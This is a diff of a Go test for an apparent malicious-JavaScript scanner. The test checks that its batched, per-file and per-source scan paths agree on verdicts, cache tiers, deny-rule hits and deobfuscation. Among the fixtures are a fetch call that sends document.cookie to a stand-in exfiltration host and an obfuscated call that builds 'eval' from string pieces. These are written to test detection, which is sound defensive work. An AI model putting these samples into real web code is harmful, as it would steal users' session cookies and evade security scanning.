@@ -6,6 +6,9 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"reflect"
+	"sort"
+	"strings"
 	"sync"
 	"sync/atomic"
 	"testing"
@@ -218,48 +221,112 @@ func TestAuditCarriesTriageTier(t *testing.T) {
 	}
 }
 
-// TestBatchedScanMatchesPerSource: ScanSources routes core.Detector through
-// the batched path; every verdict must equal what the per-source path
-// produces for the same content.
+// TestBatchedScanMatchesPerSource: ScanFiles, ScanSources and ScanSource
+// all run the one driver, so for the same content they must agree on the
+// verdict and its provenance — with a real core.Detector (batched back
+// half) and with a plain ClassifierFunc (per-item adapter). The corpus
+// carries duplicated content (dedup followers), a deny-listed IOC (rules
+// tier), an unparseable script (fallback) and a script the deobfuscator
+// rewrites. Each entry point gets a fresh engine, so its cache starts cold.
 func TestBatchedScanMatchesPerSource(t *testing.T) {
 	det, samples := trainedDetector(t)
 	if _, ok := interface{}(det).(BatchClassifier); !ok {
 		t.Fatal("core.Detector no longer implements BatchClassifier")
 	}
-	eng := New(det, Config{Workers: 4, CacheSize: -1})
-	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
-
-	var sources []Source
-	for i, s := range samples {
-		if i == 12 {
-			break
-		}
-		sources = append(sources, Source{Name: fmt.Sprintf("s%d.js", i), Content: s.Source})
+	var contents []string
+	for _, s := range samples[:12] {
+		contents = append(contents, s.Source)
 	}
-	var mu sync.Mutex
-	got := map[string]Result{}
-	stats := eng.ScanSources(ctx, sources, func(r Result) {
-		mu.Lock()
-		got[r.Path] = r
-		mu.Unlock()
+	contents = append(contents,
+		samples[0].Source, samples[3].Source, samples[3].Source, // dedup followers
+		`var x = fetch("https://cdn.evil-exfil.example/drop?d=" + document.cookie);`,
+		"var = = ;;;(",
+		`var h = "ev" + "al"; window[h]("var a = 1;");`,
+	)
+	dir := t.TempDir()
+	srcs := make([]Source, len(contents))
+	paths := make([]string, len(contents))
+	slot := map[string]int{}
+	for i, body := range contents {
+		srcs[i] = Source{Name: fmt.Sprintf("s%02d.js", i), Content: body}
+		slot[srcs[i].Name] = i
+		paths[i] = filepath.Join(dir, srcs[i].Name)
+		if err := os.WriteFile(paths[i], []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	flagEval := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
+		if _, err := parser.Parse(src); err != nil {
+			return false, err
+		}
+		return strings.Contains(src, "eval"), nil
 	})
-	if stats.Scanned != len(sources) || stats.Failed != 0 {
-		t.Fatalf("stats = %+v", stats)
+	cfg := Config{Workers: 4, Rules: testRules(t, denyRuleFile), Deobfuscate: deobOnCfg()}
+
+	for _, c := range []struct {
+		name string
+		cls  Classifier
+	}{{"detector", det}, {"classifier-func", flagEval}} {
+		t.Run(c.name, func(t *testing.T) {
+			ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
+			files, fstats := New(c.cls, cfg).ScanFiles(ctx, paths)
+			batched := make([]Result, len(srcs))
+			var mu sync.Mutex
+			sstats := New(c.cls, cfg).ScanSources(ctx, srcs, func(r Result) {
+				mu.Lock()
+				batched[slot[r.Path]] = r
+				mu.Unlock()
+			})
+			single := make([]Result, len(srcs))
+			eng := New(c.cls, cfg)
+			for i, s := range srcs {
+				single[i] = eng.ScanSource(ctx, s.Name, s.Content)
+			}
+			if fstats.Scanned != len(srcs) || sstats.Scanned != len(srcs) || fstats.Failed != 0 || sstats.Failed != 0 {
+				t.Fatalf("ScanFiles stats %+v, ScanSources stats %+v", fstats, sstats)
+			}
+
+			// Which duplicate leads a concurrent batch is a race, so outcomes
+			// are compared per content: the same multiset of (verdict,
+			// malicious, tier, deob passes, rule hits) under every entry point.
+			want := outcomesByContent(contents, single)
+			for via, got := range map[string][]Result{"ScanFiles": files, "ScanSources": batched} {
+				if g := outcomesByContent(contents, got); !reflect.DeepEqual(g, want) {
+					for body, w := range want {
+						if !reflect.DeepEqual(g[body], w) {
+							t.Errorf("%s disagrees with ScanSource on %.40q:\n got %v\nwant %v", via, body, g[body], w)
+						}
+					}
+				}
+			}
+
+			tiers := map[string]int{}
+			deob := 0
+			for _, r := range single {
+				tiers[r.Tier]++
+				if len(r.DeobPasses) > 0 {
+					deob++
+				}
+			}
+			if tiers[TierCache] != 3 || tiers[TierRules] != 1 || tiers[TierFallback] != 1 || deob == 0 {
+				t.Errorf("corpus lost its coverage: tiers %v, %d deobfuscated", tiers, deob)
+			}
+		})
 	}
-	for _, s := range sources {
-		want := eng.ScanSource(ctx, s.Name, s.Content)
-		r, ok := got[s.Name]
-		if !ok {
-			t.Fatalf("no result for %s", s.Name)
-		}
-		if r.Verdict != want.Verdict || r.Malicious != want.Malicious {
-			t.Errorf("%s: batched=(%v,%v) single=(%v,%v)",
-				s.Name, r.Verdict, r.Malicious, want.Verdict, want.Malicious)
-		}
-		if r.Tier != TierPipeline {
-			t.Errorf("%s: tier = %q, want pipeline", s.Name, r.Tier)
-		}
+}
+
+// outcomesByContent groups each result's verdict provenance under its
+// script content, sorted, so duplicates compare as a multiset.
+func outcomesByContent(contents []string, results []Result) map[string][]string {
+	out := map[string][]string{}
+	for i, r := range results {
+		out[contents[i]] = append(out[contents[i]], fmt.Sprintf("%v|%v|%s|%v|%+v",
+			r.Verdict, r.Malicious, r.Tier, r.DeobPasses, r.RuleHits))
 	}
+	for _, v := range out {
+		sort.Strings(v)
+	}
+	return out
 }
 
 // batchBroken implements BatchClassifier with a back half that always
